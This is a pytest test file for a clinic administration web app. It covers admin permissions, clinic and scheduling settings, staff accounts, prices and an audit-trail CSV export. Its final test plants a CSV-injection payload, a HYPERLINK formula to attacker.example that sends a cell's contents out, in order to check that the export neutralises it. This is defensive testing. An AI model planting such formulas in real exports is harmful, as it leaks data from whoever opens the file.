"""Clinic administration: settings that patients see, staff accounts, and the audit trail."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from fastapi import FastAPI
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.web.conftest import PASSWORD, BrowserClient, World, signed_in
from trdnav.settings import Settings
from trdnav.store import audit
from trdnav.store.accounts import create_staff
from trdnav.store.models import AuditEvent, Clinic, Staff, StaffSession, now
from trdnav.web.clinic_view import clinic_view, installation_view

SETTINGS = {
    "therapies": ["tms", "esketamine"],
    "crisis_title": "Help now",
    "crisis_text": "Call the North Clinic crisis line on 555-0199, day or night.",
    "contact_text": "Call 555-0123, Monday to Friday, 9 to 5.",
    "retention_days": "365",
    "link_idle_days": "120",
    "require_two_factor": "on",
    "timezone": "America/Chicago",
    "country": "US",
    "subdivision": "IL",
    "opening_days": ["0", "1", "2", "3", "4", "5"],
    "opens_at": "07:30",
    "closes_at": "19:00",
}


def _entries(app: FastAPI, action: str, record_type: str) -> list[AuditEvent]:
    with app.state.sessions() as session:
        query = select(AuditEvent).where(AuditEvent.action == action, AuditEvent.record_type == record_type)
        return list(session.scalars(query.order_by(AuditEvent.seq)))


def _clinic(app: FastAPI, clinic_id: int) -> Clinic:
    session: Session
    with app.state.sessions() as session:
        clinic = session.get(Clinic, clinic_id)
        assert clinic is not None
        session.expunge(clinic)
        return clinic


def _staff(app: FastAPI, staff_id: int) -> Staff:
    session: Session
    with app.state.sessions() as session:
        staff = session.get(Staff, staff_id)
        assert staff is not None
        session.expunge(staff)
        return staff


def test_clinicians_cannot_open_the_admin_pages(app: FastAPI, world: World) -> None:
    clinician = signed_in(app, world.clinician_a)
    for path in ("/staff/admin/", "/staff/admin/staff", "/staff/admin/audit", "/staff/admin/audit.csv"):
        response = clinician.get(path)
        assert response.status_code == 403, path
        assert "Only the clinic&#39;s admins can do this." in response.text
    assert clinician.post("/staff/admin/settings", data=SETTINGS).status_code == 403
    assert _clinic(app, world.clinic_a).therapies == ["iv_ketamine", "tms"]


def test_saved_settings_show_on_the_clinics_intake_page(
    app: FastAPI, world: World, client: BrowserClient
) -> None:
    admin = signed_in(app, world.admin_a)
    page = admin.get("/staff/admin/")
    assert page.status_code == 200
    assert "/c/north/" in page.text, "the public intake link is shown"
    response = admin.post("/staff/admin/settings", data=SETTINGS, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/staff/admin/?saved=1"
    north = _clinic(app, world.clinic_a)
    assert north.therapies == ["tms", "esketamine"]
    assert north.retention_days == 365 and north.require_two_factor is True
    assert north.link_idle_days == 120
    assert north.contact_text == "Call 555-0123, Monday to Friday, 9 to 5."
    intake = client.get("/c/north/").text
    assert "Call the North Clinic crisis line on 555-0199" in intake
    assert "Esketamine" in intake or "esketamine" in intake
    assert "555-0199" not in client.get("/c/south/").text, "the other clinic keeps its own settings"
    [entry] = _entries(app, "update", "clinic")
    assert (entry.record_id, entry.clinic_id, entry.staff_id) == (
        world.clinic_a,
        world.clinic_a,
        world.admin_a,
    )


def test_two_factor_can_be_required_and_retention_left_blank(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    settings = {**SETTINGS, "retention_days": ""}
    assert admin.post("/staff/admin/settings", data=settings, follow_redirects=False).status_code == 303
    north = _clinic(app, world.clinic_a)
    assert north.require_two_factor is True and north.retention_days is None
    assert _clinic(app, world.clinic_b).require_two_factor is False


def test_invalid_settings_are_refused_with_the_field_named_and_nothing_saved(
    app: FastAPI, world: World
) -> None:
    admin = signed_in(app, world.admin_a)
    invalid = {**SETTINGS, "therapies": [], "retention_days": "5", "crisis_text": ""}
    response = admin.post("/staff/admin/settings", data=invalid)
    assert response.status_code == 422
    assert "Choose at least one therapy" in response.text
    assert "from 30 to 3650" in response.text
    assert 'aria-describedby="retention_days-hint retention_days-error"' in response.text
    assert "Enter the crisis resources text" in response.text
    north = _clinic(app, world.clinic_a)
    assert north.therapies == ["iv_ketamine", "tms"] and north.retention_days is None
    assert north.require_two_factor is False
    assert _entries(app, "update", "clinic") == []
    unknown = admin.post("/staff/admin/settings", data={**SETTINGS, "therapies": ["homeopathy"]})
    assert unknown.status_code == 422


def test_an_admin_adds_a_staff_account(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    new = {
        "name": "Nia North",
        "email": "nia@north.example",
        "role": "clinician",
        "password": "a quiet harbour at dawn",
    }
    response = admin.post("/staff/admin/staff", data=new, follow_redirects=False)
    assert response.status_code == 303
    with app.state.sessions() as session:
        added = session.scalars(select(Staff).where(Staff.email == "nia@north.example")).one()
        assert (added.clinic_id, added.role, added.active) == (world.clinic_a, "clinician", True)
        assert added.must_change_password, "the admin chose it: the person chooses their own at first sign-in"
        added_id = added.id
    [entry] = _entries(app, "create", "staff")
    assert (entry.record_id, entry.clinic_id) == (added_id, world.clinic_a)
    listing = admin.get("/staff/admin/staff").text
    assert "Nia North" in listing and "Ana North" in listing
    assert "Bo South" not in listing, "another clinic's staff are not listed"


def test_a_bad_account_is_refused_with_the_message_beside_the_field(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    short = {"name": "Nia North", "email": "nia@north.example", "role": "clinician", "password": "short"}
    response = admin.post("/staff/admin/staff", data=short)
    assert response.status_code == 422
    assert 'id="password-error">Must be at least 12 characters.' in response.text
    assert "short" not in response.text.split('id="password"')[1][:200], "the password is not sent back"
    taken = {**short, "email": "ana@north.example", "password": "a quiet harbour at dawn"}
    assert "already exists" in admin.post("/staff/admin/staff", data=taken).text
    assert _entries(app, "create", "staff") == []


def test_a_deactivated_account_is_signed_out_and_can_be_reactivated(app: FastAPI, world: World) -> None:
    clinician = signed_in(app, world.clinician_a)
    assert clinician.get(f"/staff/assessments/{world.assessment_a}/export.json").status_code == 200
    admin = signed_in(app, world.admin_a)
    path = f"/staff/admin/staff/{world.clinician_a}/deactivate"
    assert admin.post(path, follow_redirects=False).status_code == 303
    assert _staff(app, world.clinician_a).active is False
    with app.state.sessions() as session:
        live = session.scalars(
            select(StaffSession).where(
                StaffSession.staff_id == world.clinician_a, StaffSession.ended_at.is_(None)
            )
        ).all()
        assert live == []
    refused = clinician.get(f"/staff/assessments/{world.assessment_a}/export.json", follow_redirects=False)
    assert refused.status_code != 200 and "Sam Example" not in refused.text
    [entry] = _entries(app, "update", "staff")
    assert entry.record_id == world.clinician_a
    assert len(_entries(app, "update", "staff_session")) == 1
    again = admin.post(f"/staff/admin/staff/{world.clinician_a}/activate", follow_redirects=False)
    assert again.status_code == 303
    assert _staff(app, world.clinician_a).active is True
    assert len(_entries(app, "update", "staff")) == 2


def test_an_admin_cannot_deactivate_themself_or_demote_the_last_admin(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    response = admin.post(f"/staff/admin/staff/{world.admin_a}/deactivate")
    assert response.status_code == 422
    assert "You cannot deactivate your own account" in response.text
    demote = admin.post(f"/staff/admin/staff/{world.admin_a}/role", data={"role": "clinician"})
    assert demote.status_code == 422
    assert "last admin" in demote.text
    assert f'aria-describedby="staff-{world.admin_a}-error"' in demote.text
    me = _staff(app, world.admin_a)
    assert (me.role, me.active) == ("admin", True)
    assert _entries(app, "update", "staff") == []


def test_roles_change_and_the_last_admin_rule_follows(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    promote = admin.post(f"/staff/admin/staff/{world.clinician_a}/role", data={"role": "admin"})
    assert promote.status_code == 200  # followed to the staff page
    assert _staff(app, world.clinician_a).role == "admin"
    step_down = admin.post(
        f"/staff/admin/staff/{world.admin_a}/role", data={"role": "clinician"}, follow_redirects=False
    )
    assert step_down.status_code == 303 and step_down.headers["location"] == "/staff/"
    assert _staff(app, world.admin_a).role == "clinician"
    assert admin.get("/staff/admin/").status_code == 403, "no longer an admin"
    assert [e.record_id for e in _entries(app, "update", "staff")] == [world.clinician_a, world.admin_a]
    assert admin.post(f"/staff/admin/staff/{world.admin_a}/role", data={"role": "owner"}).status_code == 403


def test_an_unknown_role_or_a_second_bad_field_is_named_beside_it(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    unknown = admin.post(f"/staff/admin/staff/{world.clinician_a}/role", data={"role": "owner"})
    assert unknown.status_code == 422
    assert "Choose a role: clinician or admin." in unknown.text
    assert _staff(app, world.clinician_a).role == "clinician"
    bad = {"name": "", "email": "nia at north", "role": "clinician", "password": "short"}
    response = admin.post("/staff/admin/staff", data=bad)
    assert response.status_code == 422
    assert 'id="email-error">Expected an email address such as name@clinic.org.' in response.text
    assert 'id="name-error">Must not be empty.' in response.text
    assert 'id="password-error">Must be at least 12 characters.' in response.text
    assert 'value="nia at north"' in response.text
    assert _entries(app, "create", "staff") == [] and _entries(app, "update", "staff") == []


def test_another_clinics_staff_are_not_found(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    for action in ("deactivate", "activate"):
        assert admin.post(f"/staff/admin/staff/{world.clinician_b}/{action}").status_code == 404
        assert admin.post(f"/staff/admin/staff/999999/{action}").status_code == 404
    assert (
        admin.post(f"/staff/admin/staff/{world.clinician_b}/role", data={"role": "admin"}).status_code == 404
    )
    other = _staff(app, world.clinician_b)
    assert (other.active, other.role) == (True, "clinician")


def test_the_audit_page_lists_this_clinics_entries_only_and_is_audited(app: FastAPI, world: World) -> None:
    signed_in(app, world.clinician_b).get(f"/staff/assessments/{world.assessment_b}/export.json")
    signed_in(app, world.clinician_a).get(f"/staff/assessments/{world.assessment_a}/export.json")
    admin = signed_in(app, world.admin_a)
    page = admin.get("/staff/admin/audit")
    assert page.status_code == 200
    assert "Ana North" in page.text and "audit_trail" in page.text
    assert "Bo South" not in page.text and f"staff account {world.clinician_b}" not in page.text
    assert f"assessment {world.assessment_b}<" not in page.text
    exports_only = admin.get("/staff/admin/audit", params={"action": "export", "record_type": "consultation"})
    assert f"consultation {world.consultation_a}" in exports_only.text
    assert "audit_trail</td>" not in exports_only.text
    views = _entries(app, "read", "audit_trail")
    assert [(e.clinic_id, e.staff_id, e.record_id) for e in views] == [
        (world.clinic_a, world.admin_a, None)
    ] * 2


def test_the_audit_page_shows_100_entries_a_page_newest_first(app: FastAPI, world: World) -> None:
    with app.state.sessions.begin() as session:
        for _ in range(150):
            audit.record(
                session, audit.SYSTEM, "read", "assessment", world.assessment_a, clinic_id=world.clinic_a
            )
    admin = signed_in(app, world.admin_a)
    first = admin.get("/staff/admin/audit").text
    assert first.count('<th scope="row">') == 100
    assert "Older entries" in first and "Newer entries" not in first
    second = admin.get("/staff/admin/audit", params={"page": "2"}).text
    # 150 entries and the two views of the page itself
    assert "Newer entries" in second and second.count('<th scope="row">') == 52
    seqs = [int(cell.split("<", 1)[0]) for cell in first.split('<th scope="row">')[1:]]
    assert seqs == sorted(seqs, reverse=True) and seqs[0] == _entries(app, "read", "audit_trail")[0].seq


def test_the_audit_csv_holds_this_clinics_entries_up_to_its_own_export(app: FastAPI, world: World) -> None:
    signed_in(app, world.clinician_b).get(f"/staff/assessments/{world.assessment_b}/export.json")
    signed_in(app, world.clinician_a).get(f"/staff/assessments/{world.assessment_a}/export.json")
    response = signed_in(app, world.admin_a).get("/staff/admin/audit.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="trd-navigator-audit-north-'
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows, "a header and rows"
    assert {row["clinic_id"] for row in rows} == {str(world.clinic_a)}
    assert response.text.startswith(
        "seq,at,actor,staff_id,role,clinic_id,record_type,record_id,action,address"
    )
    assert (rows[-1]["action"], rows[-1]["record_type"]) == ("export", "audit_trail"), (
        "ends with its own entry"
    )
    assert any(row["record_id"] == str(world.assessment_a) and row["action"] == "export" for row in rows)
    [entry] = _entries(app, "export", "audit_trail")
    assert (entry.clinic_id, entry.staff_id) == (world.clinic_a, world.admin_a)
    with app.state.sessions() as session:
        assert audit.verify(session) == []


SCHEDULED = {name: value for name, value in SETTINGS.items() if name != "require_two_factor"}


def test_an_admin_sets_the_clinics_scheduling(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    page = admin.get("/staff/admin/").text
    assert 'name="timezone" maxlength="60" autocomplete="off" value="America/New_York"' in page
    assert 'id="opening_day-4" name="opening_days" value="4" checked' in page
    assert 'id="opening_day-5" name="opening_days" value="5">' in page, "Saturday is closed by default"
    assert admin.post("/staff/admin/settings", data=SCHEDULED, follow_redirects=False).status_code == 303
    north = _clinic(app, world.clinic_a)
    assert (north.timezone, north.country, north.subdivision) == ("America/Chicago", "US", "IL")
    assert north.opening_days == [0, 1, 2, 3, 4, 5]
    assert (north.opens_at, north.closes_at) == ("07:30", "19:00")
    assert _clinic(app, world.clinic_b).timezone == "America/New_York", "the other clinic keeps its own"
    national = {**SCHEDULED, "country": "gb", "subdivision": ""}
    assert admin.post("/staff/admin/settings", data=national, follow_redirects=False).status_code == 303
    assert (_clinic(app, world.clinic_a).country, _clinic(app, world.clinic_a).subdivision) == ("GB", "")


def test_wrong_scheduling_is_refused_beside_each_field_and_nothing_saved(app: FastAPI, world: World) -> None:
    admin = signed_in(app, world.admin_a)
    cases: list[tuple[dict[str, object], str | None, str | None]] = [
        ({"timezone": "Mars/Olympus"}, "timezone", "IANA name, for example America/New_York"),
        ({"timezone": "EST5EDT "}, None, None),
        ({"country": "XX"}, "country", "two-letter country code with known public holidays"),
        ({"country": "USA"}, "country", "two-letter country code"),
        ({"subdivision": "ZZ"}, "subdivision", "Enter one of US&#39;s state or region codes"),
        ({"opening_days": []}, "opening_days", "Tick at least one day the clinic is open."),
        ({"opening_days": ["0", "7"]}, "opening_days", "Tick at least one day the clinic is open."),
        ({"opens_at": "8:00"}, "opens_at", "HH:MM in the 24-hour clock"),
        ({"closes_at": "24:00"}, "closes_at", "HH:MM in the 24-hour clock"),
        (
            {"opens_at": "18:00", "closes_at": "18:00"},
            "closes_at",
            "closing time after the opening time (18:00)",
        ),
    ]
    for change, field, message in cases:
        response = admin.post("/staff/admin/settings", data={**SCHEDULED, **change}, follow_redirects=False)
        if field is None:
            assert response.status_code == 303, change  # a valid IANA name, given with a space
            continue
        assert response.status_code == 422, change
        assert message in response.text, change
        assert f'id="{field}-error"' in response.text, change
    north = _clinic(app, world.clinic_a)
    assert north.timezone == "EST5EDT" and north.opening_days == [0, 1, 2, 3, 4, 5]
    assert len(_entries(app, "update", "clinic")) == 1, "only the valid submission was saved"


def test_the_staff_list_shows_a_lock_only_while_it_lasts(
    app: FastAPI, world: World, extra_staff: int
) -> None:
    lock_note = "waiting after failed sign-ins"
    with signed_in(app, world.admin_a) as admin:
        assert lock_note not in admin.get("/staff/admin/staff").text
        for minutes, shown in ((15, True), (-1, False)):
            with app.state.sessions.begin() as session:
                member = session.get(Staff, extra_staff)
                assert member is not None
                member.locked_until = now() + dt.timedelta(minutes=minutes)
            assert (lock_note in admin.get("/staff/admin/staff").text) is shown


# --- The clinic's own prices -------------------------------------------------------------------

PRICES = {
    "price_tms": "$300 per session; a course of 36 is $9,000",
    "price_esketamine": "  $900 per dose, before insurance  ",
}


def test_an_admin_sets_and_clears_the_clinics_own_prices_which_the_clinic_view_carries(
    app: FastAPI, world: World
) -> None:
    admin = signed_in(app, world.admin_a)
    page = admin.get("/staff/admin/").text
    assert '<label for="price_tms">Price for' in page and 'name="price_ect"' in page
    saved = admin.post("/staff/admin/settings", data={**SCHEDULED, **PRICES}, follow_redirects=False)
    assert saved.status_code == 303
    north = _clinic(app, world.clinic_a)
    expected = {
        "tms": "$300 per session; a course of 36 is $9,000",
        "esketamine": "$900 per dose, before insurance",
    }
    assert north.prices == expected
    assert 'value="$300 per session; a course of 36 is $9,000"' in admin.get("/staff/admin/").text
    assert clinic_view(north, Settings()).prices == expected
    assert installation_view(Settings()).prices == {}, "no clinic, no clinic prices"
    assert _clinic(app, world.clinic_b).prices == {}
    assert [entry.record_id for entry in _entries(app, "update", "clinic")] == [world.clinic_a]

    cleared = admin.post("/staff/admin/settings", data={**SCHEDULED, **PRICES, "price_tms": " "})
    assert cleared.status_code == 200  # redirected to the saved settings
    assert _clinic(app, world.clinic_a).prices == {"esketamine": "$900 per dose, before insurance"}
    assert len(_entries(app, "update", "clinic")) == 2


def test_a_price_too_long_or_for_a_therapy_not_offered_is_refused_beside_its_field(
    app: FastAPI, world: World
) -> None:
    admin = signed_in(app, world.admin_a)
    too_long = admin.post("/staff/admin/settings", data={**SCHEDULED, "price_tms": "x" * 201})
    assert too_long.status_code == 422
    assert '<p class="error-message" id="price_tms-error">' in too_long.text
    assert (
        "Shorten the price for Transcranial magnetic stimulation (TMS)" in too_long.text
        and "(now 201)" in too_long.text
    )
    assert 'href="#price_tms"' in too_long.text, "the summary links to the field"
    assert f'value="{"x" * 201}"' in too_long.text, "what was typed is kept to be shortened"
    not_offered = admin.post("/staff/admin/settings", data={**SCHEDULED, "price_ect": "$1,000"})
    assert not_offered.status_code == 422
    assert (
        '<p class="error-message" id="price_ect-error">Tick Electroconvulsive therapy (ECT)'
        in not_offered.text
    )
    assert _clinic(app, world.clinic_a).prices == {}
    assert _entries(app, "update", "clinic") == []


def test_another_clinics_admin_sets_only_their_own_clinics_prices(app: FastAPI, world: World) -> None:
    with app.state.sessions.begin() as session:
        south = session.get(Clinic, world.clinic_b)
        assert south is not None
        admin_b = create_staff(
            session,
            clinic=south,
            email="sue@south.example",
            name="Sue South",
            role="admin",
            password=PASSWORD,
        ).id
    signed_in(app, world.admin_a).post("/staff/admin/settings", data={**SCHEDULED, **PRICES})
    other = signed_in(app, admin_b)
    assert "$300 per session" not in other.get("/staff/admin/").text
    other.post("/staff/admin/settings", data={**SCHEDULED, "price_tms": "$250 per session"})
    assert _clinic(app, world.clinic_a).prices["tms"] == "$300 per session; a course of 36 is $9,000"
    assert _clinic(app, world.clinic_b).prices == {"tms": "$250 per session"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_audit_csv_never_hands_a_spreadsheet_a_formula(app: FastAPI, world: World, start: str) -> None:
    """OWASP CSV injection: a cell starting a formula (here an address and a detail an attacker
    chose) is exported with a leading single quote, so a spreadsheet shows it as text."""
    formula = start + 'HYPERLINK("https://attacker.example/?"&A1,"Click")'
    attacker = audit.Actor(kind="anonymous", role="anonymous", clinic_id=world.clinic_a, address=formula)
    with app.state.sessions.begin() as session:
        audit.record(session, attacker, "sign_in_failed", "staff", None, detail=formula)
    rows = list(csv.reader(io.StringIO(signed_in(app, world.admin_a).get("/staff/admin/audit.csv").text)))
    header, entries = rows[0], rows[1:]
    [planted] = [
        dict(zip(header, row, strict=True))
        for row in entries
        if row[header.index("action")] == "sign_in_failed"
    ]
    assert planted["address"] == planted["detail"] == "'" + formula
    for row in entries:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
